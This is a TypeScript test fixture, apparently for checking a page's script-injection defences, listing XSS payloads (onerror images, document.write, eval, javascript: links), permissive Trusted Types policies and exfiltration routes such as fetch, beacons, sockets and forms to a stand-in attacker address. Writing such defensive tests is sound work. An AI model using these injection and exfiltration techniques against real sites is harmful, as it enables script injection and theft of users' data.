/** What a script that got into a page tries: each marks `window.pwned` or reaches the attacker's server when it works. */

export type Attack = {
  readonly name: string;
  /** Runs in the page. `evil` is the address that tells of success, with the name of the attack at its end. */
  readonly attempt: (evil: string, name: string) => unknown;
};

declare global {
  interface Window {
    pwned: string[];
    violations: string[];
  }
}

/** Markup that runs a script when it becomes part of the page. */
const MARKUP: readonly Attack[] = [
  {
    name: "innerHTML",
    attempt: (_evil, name) => {
      document.body.innerHTML = `<img src="x:" onerror="pwned.push('${name}')">`;
    },
  },
  {
    name: "outerHTML",
    attempt: (_evil, name) => {
      const place = document.body.appendChild(document.createElement("p"));
      place.outerHTML = `<img src="x:" onerror="pwned.push('${name}')">`;
    },
  },
  {
    name: "insertAdjacentHTML",
    attempt: (_evil, name) =>
      document.body.insertAdjacentHTML("beforeend", `<img src="x:" onerror="pwned.push('${name}')">`),
  },
  { name: "document.write", attempt: (_evil, name) => document.write(`<script>pwned.push('${name}')</script>`) },
  {
    name: "contextual fragment",
    attempt: (_evil, name) =>
      document.body.append(document.createRange().createContextualFragment(`<script>pwned.push('${name}')</script>`)),
  },
  {
    name: "DOMParser",
    attempt: (_evil, name) => {
      const parsed = new DOMParser().parseFromString(`<img src="x:" onerror="pwned.push('${name}')">`, "text/html");
      document.body.append(...document.adoptNode(parsed.body).childNodes);
    },
  },
  {
    name: "shadow root",
    attempt: (_evil, name) => {
      const root = document.body.appendChild(document.createElement("div")).attachShadow({ mode: "open" });
      root.innerHTML = `<img src="x:" onerror="pwned.push('${name}')">`;
    },
  },
  {
    name: "frame with a document of its own",
    attempt: (_evil, name) => {
      const frame = document.createElement("iframe");
      frame.srcdoc = `<script>parent.pwned.push('${name}')</script>`;
      document.body.append(frame);
    },
  },
];

/** Text that becomes code. */
const CODE: readonly Attack[] = [
  // biome-ignore lint/security/noGlobalEval: what is tried
  { name: "eval", attempt: (_evil, name) => globalThis.eval(`pwned.push('${name}')`) },
  { name: "Function", attempt: (_evil, name) => new Function(`pwned.push('${name}')`)() },
  { name: "timer of text", attempt: (_evil, name) => setTimeout(`pwned.push('${name}')` as unknown as () => void) },
  {
    name: "inline script",
    attempt: (_evil, name) => {
      const script = document.createElement("script");
      script.append(`pwned.push('${name}')`);
      document.body.append(script);
    },
  },
  {
    name: "script from elsewhere",
    attempt: (evil) => {
      const script = document.createElement("script");
      script.src = evil;
      document.body.append(script);
    },
  },
  {
    name: "script in its address",
    attempt: (_evil, name) => {
      const script = document.createElement("script");
      script.src = `data:text/javascript,pwned.push('${name}')`;
      document.body.append(script);
    },
  },
  { name: "imported module", attempt: (evil) => import(evil) },
  {
    name: "attribute of an event",
    attempt: (_evil, name) => {
      const button = document.createElement("button");
      button.setAttribute("onclick", `pwned.push('${name}')`);
      button.click();
    },
  },
  {
    name: "link with a script",
    attempt: (_evil, name) => {
      const link = document.body.appendChild(document.createElement("a"));
      link.href = `javascript:void pwned.push('${name}')`;
      link.click();
    },
  },
  {
    name: "worker of a blob",
    attempt: (evil) =>
      new Worker(URL.createObjectURL(new Blob([`fetch('${evil}',{mode:'no-cors'})`], { type: "text/javascript" }))),
  },
];

type Policies = { createPolicy(name: string, rules: object): unknown };

/** Ways to turn the check of markup off; the last word names the policy. */
const POLICIES: readonly Attack[] = ["attacker", "default", "solid-template"].map((policy) => ({
  name: `policy ${policy}`,
  attempt: (_evil, name) => {
    const { trustedTypes } = globalThis as unknown as { trustedTypes: Policies };
    trustedTypes.createPolicy(name.slice("policy ".length), { createHTML: (text: string) => text });
    window.pwned.push(name);
  },
}));

/** Ways to carry what a page shows to somewhere else. */
const EXITS: readonly Attack[] = [
  { name: "fetch", attempt: (evil) => fetch(evil, { mode: "no-cors" }) },
  {
    name: "XMLHttpRequest",
    attempt: (evil) => {
      const request = new XMLHttpRequest();
      request.open("GET", evil);
      request.send();
    },
  },
  { name: "beacon", attempt: (evil) => navigator.sendBeacon(evil) },
  { name: "event source", attempt: (evil) => new EventSource(evil) },
  { name: "socket", attempt: (evil) => new WebSocket(evil.replace("http", "ws")) },
  {
    name: "picture",
    attempt: (evil) => {
      new Image().src = evil;
    },
  },
  {
    name: "sound",
    attempt: (evil) => {
      new Audio(evil).preload = "auto";
    },
  },
  {
    name: "stylesheet",
    attempt: (evil) => {
      const link = document.createElement("link");
      Object.assign(link, { rel: "stylesheet", href: evil });
      document.head.append(link);
    },
  },
  {
    name: "style of an element",
    attempt: (evil) => {
      const place = document.body.appendChild(document.createElement("p"));
      place.setAttribute("style", `display:block;width:9px;height:9px;background:url(${evil})`);
    },
  },
  {
    name: "frame",
    attempt: (evil) => {
      const frame = document.createElement("iframe");
      frame.src = evil;
      document.body.append(frame);
    },
  },
  {
    name: "embedded object",
    attempt: (evil) => {
      const embedded = document.createElement("object");
      embedded.data = evil;
      document.body.append(embedded);
    },
  },
  {
    name: "base address",
    attempt: (evil) => {
      const base = document.createElement("base");
      base.href = `${evil}/`;
      document.head.append(base);
      new Image().src = "under-the-base";
    },
  },
  {
    name: "form",
    attempt: (evil) => {
      const form = document.body.appendChild(document.createElement("form"));
      form.action = evil;
      form.submit();
    },
  },
];

export const ATTACKS: readonly Attack[] = [...MARKUP, ...CODE, ...POLICIES, ...EXITS];
